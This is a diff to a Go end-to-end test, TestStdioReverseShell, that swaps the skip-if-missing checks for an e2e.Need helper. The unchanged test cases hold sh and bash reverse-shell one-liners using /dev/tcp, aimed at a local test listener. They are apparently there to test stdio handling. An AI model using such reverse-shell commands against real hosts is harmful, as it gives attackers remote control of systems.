@@ -150,18 +150,13 @@ func TestStdioNone(t *testing.T) {
 // none.
 func TestStdioReverseShell(t *testing.T) {
 	e2e.Require(t)
-	bash, err := exec.LookPath("bash")
-	if err != nil {
-		t.Skip("no bash")
-	}
+	bash := e2e.Need(t, "bash")
 	for _, c := range []struct{ shell, script string }{
 		{"sh", "sh -i >& /dev/tcp/127.0.0.1/%d 0>&1"},
 		{"bash", "exec bash -i >& /dev/tcp/127.0.0.1/%d 0>&1"},
 	} {
 		t.Run(c.shell, func(t *testing.T) {
-			if _, err := exec.LookPath(c.shell); err != nil {
-				t.Skipf("no %s", c.shell)
-			}
+			e2e.Need(t, c.shell)
 			ln, err := net.Listen("tcp", "127.0.0.1:0")
 			if err != nil {
 				t.Fatal(err)
